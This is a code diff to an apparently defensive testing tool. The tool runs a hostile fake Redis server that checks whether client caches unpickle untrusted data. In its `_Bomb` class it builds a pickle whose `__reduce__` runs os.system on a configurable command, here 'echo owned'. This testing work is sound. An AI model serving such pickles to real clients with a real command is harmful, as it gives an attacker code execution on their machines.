@@ -3,22 +3,21 @@
 Caches that keep pickles (Django's, Flask-Caching's, hand-written ones) load whatever the server says was stored.
 """
 
+import os
 import pickle
 
-from backwatch.attack.servers import HostileServer, Session
+from backwatch.attack.servers import LARGEST, MOST_KEPT, HostileServer, Session
 
 COMMAND = "echo owned"
 """What the pickle would run; nothing here ever loads it."""
 
 
 class _Bomb:
+    def __init__(self, command: str) -> None:
+        self._command = command
+
     def __reduce__(self) -> tuple[object, tuple[str]]:
-        import os
-
-        return os.system, (COMMAND,)
-
-
-BOMB = pickle.dumps(_Bomb())
+        return os.system, (self._command,)  # pyright: ignore[reportDeprecated]  what such bombs use
 
 
 class Redis(HostileServer):
@@ -29,6 +28,9 @@ class Redis(HostileServer):
     reference = "https://docs.python.org/3/library/pickle.html; ATT&CK T1059.006"
     driver = "redis"
     rule = "hostile-payload"
+
+    command = COMMAND
+    """What the pickle would run."""
 
     def serve(self, session: Session) -> None:
         """TLS from the first byte, then commands."""
@@ -42,9 +44,11 @@ class Redis(HostileServer):
                 three = len(command) > 1 and command[1] == b"3"
                 session.send(self._hello(three=three))
             elif verb == b"GET" and len(command) > 1:
-                value = BOMB if self.hostile else kept.get(command[1])
+                value = pickle.dumps(_Bomb(self.command)) if self.hostile else kept.get(command[1])
                 session.send((b"_\r\n" if three else b"$-1\r\n") if value is None else _bulk(value))
             elif verb in (b"SET", b"SETEX") and len(command) > 2:
+                if len(kept) >= MOST_KEPT:
+                    kept.clear()
                 kept[command[1]] = command[-1] if verb == b"SETEX" else command[2]
                 session.send(b"+OK\r\n")
             elif verb == b"PING":
@@ -69,8 +73,12 @@ class Redis(HostileServer):
         if not head.startswith(b"*"):
             return head.split()
         parts: list[bytes] = []
-        for _ in range(min(int(head[1:]), 1024)):
+        count, size = int(head[1:]), 0
+        for _ in range(count):
             length = int(session.line()[1:])
+            size += length
+            if count > MOST_KEPT or size > LARGEST:
+                raise ValueError("a command of that size is no driver's")
             parts.append(session.read(length))
             session.read(2)
         return parts
